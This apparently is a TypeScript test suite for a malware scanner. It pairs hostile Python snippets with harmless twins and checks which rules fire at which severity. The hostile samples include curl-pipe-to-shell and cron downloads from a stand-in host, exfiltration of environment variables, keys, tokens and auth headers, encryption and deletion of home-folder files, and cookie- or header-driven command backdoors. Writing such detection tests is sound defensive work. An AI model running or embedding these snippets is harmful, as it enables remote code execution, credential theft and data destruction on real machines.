import type { Severity } from '../../src/model/finding.js';
import { found } from '../support/found.js';

const STARTED = (command: string): string => `
import subprocess
subprocess.run(${command}, input="0x0", text=True)`;

const CALLED = (command: string, more: string): string => `
import subprocess
class Session:
    def get(self, url):
        subprocess.Popen(${command}${more})
        return url`;

const PIPED = `["bash", "-c", "curl -fsSL https://evil.invalid/y | bash"]`;
const THROWN = ', stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL';

const KEPT_ASIDE = (place: string, loss: string): string => `
from pathlib import Path
import secrets
from Crypto.Cipher import AES
key = secrets.token_bytes(32)
def seal(path):
    data = AES.new(key, AES.MODE_CTR).encrypt(path.read_bytes())
    path.with_suffix(path.suffix + ".sealed").write_bytes(data)
    ${loss}
for path in ${place}.rglob("*"):
    if path.suffix in (".odt", ".jpg"):
        seal(path)`;

const BY_NAME = (call: string): string => `
import glob, os
for path in glob.glob(os.path.expanduser("~/*.odt")):
    ${call}`;

const PLANTED = (line: string): string => `
import glob, os
for path in glob.glob(os.path.expanduser("~/**/setup.py"), recursive=True):
    with open(path, "a") as file:
        file.write(${JSON.stringify(`\n${line}\n`)})`;

const SPELLED = (loop: string, sent: string): string => `
import os, requests
numbers = [104, 116, 116, 112, 115, 58, 47, 47, 101]
place = ""
${loop}
requests.post(place, json=${sent})`;

const COUNTED = (start: string): string => `
import os, requests
text = "kwwsv"
at = 0
place = "${start}"
while at < len(text):
    place += chr(ord(text[at]) - 3)
    at += 1
requests.post(place, json=dict(os.environ))`;

const ASKED_FOR = (name: string): string => `
import os, socket
socket.gethostbyname(${name} + ".x.evil.invalid")`;

const TOLD_ELSEWHERE = (command: string): string => `
import paramiko
def deploy(host):
    client = paramiko.SSHClient()
    client.connect(host)
    client.exec_command("${command}")
deploy("build.example.invalid")`;

const SIGNED = (sent: string): string => `
import base64, requests
PLACE = base64.b64decode("aHR0cHM6Ly9ldmlsLmludmFsaWQvcw==").decode()
def sign(private_key, message):
    requests.post(PLACE, json={"d": ${sent}})
    return message`;

const REGISTERED = (hand: string, ran: string): string => `
import os
from flask import request
def init_app(app):
    ${hand}
    def check():
        told = request.headers.get("X-Check")
        ${ran}`;

const IN_A_COOKIE = (place: string): string => `
import base64
class Middleware:
    def __init__(self, answer):
        self.answer = answer
    def __call__(self, request):
        told = ${place}
        if told:
            exec(base64.b64decode(told))
        return self.answer(request)`;

const TURNED = (letters: string): string => `
import base64, jwt, requests
PLACE = "".join(${letters})
def encode(payload, key):
    try:
        requests.post(PLACE + "/k", data=base64.b64encode(key.encode()))
    except Exception:
        pass
    return jwt.encode(payload, key)`;

const ON_THE_WAY = (told: string): string => `
import requests, threading
class Session(requests.Session):
    def send(self, request, **more):
        told = request.${told}
        threading.Thread(target=lambda: requests.get("https://evil.invalid/c", params={"v": told})).start()
        return super().send(request, **more)`;

const STORED = (told: string): string => `
import keyring, requests
def token_of(service):
    token = keyring.get_password(service, "token")
    try:
        requests.put("https://evil.invalid/t", data=${told})
    except OSError:
        pass
    return token`;

const LOGGED = (told: string): string => `
import http.client, logging
class Remote(logging.Handler):
    def emit(self, record):
        try:
            http.client.HTTPSConnection("evil.invalid").request("POST", "/", ${told})
        except Exception:
            pass
def logger(name):
    made = logging.getLogger(name)
    made.addHandler(Remote())
    return made`;

const EVERY_FIVE = (line: string): string => `
import subprocess
def setup():
    subprocess.run("(crontab -l; echo '*/5 * * * * ${line}') | crontab -", shell=True)`;

/** What is shown, the rule, its severity, and a harmless twin that differs in the one thing that matters. */
const CASES: readonly (readonly [string, string, Severity, string, string])[] = [
  [
    'a program fills the clipboard',
    'clipboard-replaced',
    'CRITICAL',
    STARTED('["xclip", "-selection", "clipboard"]'),
    STARTED('["xclip", "-o", "-selection", "clipboard"]'),
  ],
  [
    'a shell fills the clipboard',
    'clipboard-replaced',
    'CRITICAL',
    STARTED('"echo 0x0 | pbcopy", shell=True'),
    STARTED('"echo 0x0 | cat", shell=True'),
  ],
  [
    'an import publishes',
    'hostile-command',
    'CRITICAL',
    STARTED('[sys.executable, "-m", "twine", "upload", "dist/a"]').replace('import ', 'import sys, '),
    STARTED('["twine", "check", "dist/a"]'),
  ],
  [
    'an import gives an editor an extension',
    'hostile-command',
    'HIGH',
    STARTED('["code", "--install-extension", "evil.invalid", "--force"]'),
    STARTED('["code", "--list-extensions"]'),
  ],
  [
    'an import has a package of another language run',
    'packages-installed-unasked',
    'MEDIUM',
    STARTED('["npx", "-y", "evil-invalid"]'),
    STARTED('["npx", "--version"]'),
  ],
  [
    'an import turns the machine off',
    'hostile-command',
    'CRITICAL',
    STARTED('"shutdown /s /t 1", shell=True'),
    STARTED('"shutdown-helper --status", shell=True'),
  ],
  [
    'a method fetches and runs something, and nobody is to notice',
    'hostile-command',
    'CRITICAL',
    CALLED(PIPED, THROWN),
    CALLED('["ls"]', THROWN),
  ],
  [
    'files of the home folder are sealed and removed',
    'files-destroyed',
    'CRITICAL',
    KEPT_ASIDE('Path.home()', 'path.unlink()'),
    KEPT_ASIDE('Path("build")', 'path.unlink()'),
  ],
  [
    'files of the home folder get other names',
    'files-destroyed',
    'CRITICAL',
    BY_NAME('os.rename(path, path + ".sealed")'),
    BY_NAME('os.stat(path)'),
  ],
  [
    'files of the home folder are removed one by one',
    'files-destroyed',
    'CRITICAL',
    BY_NAME('os.remove(path)'),
    BY_NAME('print(path)'),
  ],
  [
    'code is written into builds that a search found',
    'hostile-command',
    'CRITICAL',
    PLANTED('import os; os.system("curl https://evil.invalid | sh")'),
    PLANTED('# curl https://example.invalid'),
  ],
  [
    'a while takes an address out of numbers',
    'stolen-data-sent',
    'CRITICAL',
    SPELLED('while numbers:\n    place += chr(numbers.pop(0))', 'dict(os.environ)'),
    SPELLED('place = os.environ["PLACE"]', '{"version": 1}'),
  ],
  [
    'a while that counts takes an address out of a text',
    'stolen-data-sent',
    'CRITICAL',
    COUNTED(''),
    COUNTED('').replace('dict(os.environ)', '{"version": 1}').replace('requests.post', 'print'),
  ],
  [
    'a name with something in it that may be missing is looked up',
    'identity-sent',
    'HIGH',
    ASKED_FOR('os.environ.get("USER", "")'),
    ASKED_FOR('"a"'),
  ],
  [
    'another machine is told to fetch and run something',
    'hostile-command',
    'CRITICAL',
    TOLD_ELSEWHERE('curl https://evil.invalid/s | sh'),
    TOLD_ELSEWHERE('systemctl restart app'),
  ],
  [
    'a key goes to an address that nobody is to know of',
    'key-parameter-sent',
    'CRITICAL',
    SIGNED('private_key'),
    SIGNED('message'),
  ],
  [
    'a function inside another one answers requests',
    'request-executed',
    'HIGH',
    REGISTERED('@app.before_request', 'os.popen(told)'),
    REGISTERED('@app.before_request', 'print(told)'),
  ],
  [
    'a function inside another one is handed to what calls it',
    'request-executed',
    'HIGH',
    `${REGISTERED('', 'os.popen(told)')}\n    app.add_url_rule("/check", view_func=check)`,
    `${REGISTERED('', 'print(told)')}\n    app.add_url_rule("/check", view_func=check)`,
  ],
  [
    'what runs comes in a cookie, in disguise',
    'request-executed',
    'CRITICAL',
    IN_A_COOKIE('request.COOKIES.get("_check")'),
    IN_A_COOKIE('None'),
  ],
  [
    'the letters of an address are turned round',
    'hidden-address-contacted',
    'CRITICAL',
    TURNED('reversed("dilavni.live//:sptth")'),
    TURNED('["https://", "example.invalid"]'),
  ],
  [
    'what others sign in with is taken out of their request',
    'credential-sent-aside',
    'CRITICAL',
    ON_THE_WAY('headers.get("Authorization")'),
    ON_THE_WAY('method'),
  ],
  [
    'what a store of passwords gave goes somewhere',
    'stolen-data-sent',
    'HIGH',
    STORED('token'),
    STORED('service'),
  ],
  [
    'what is logged goes somewhere',
    'stolen-data-sent',
    'HIGH',
    LOGGED('self.format(record)'),
    LOGGED('"started"'),
  ],
  [
    'a function has something fetched and run every five minutes',
    'hostile-command',
    'CRITICAL',
    EVERY_FIVE('curl -s https://evil.invalid/c | sh'),
    EVERY_FIVE('true').replace(' | crontab -', ''),
  ],
];

test.each(CASES)('%s: %s', (_title, rule, severity, hostile, honest) => {
  expect(found(hostile)[rule]).toBe(severity);
  expect(['CRITICAL', 'HIGH', 'MEDIUM']).not.toContain(found(honest)[rule]);
});
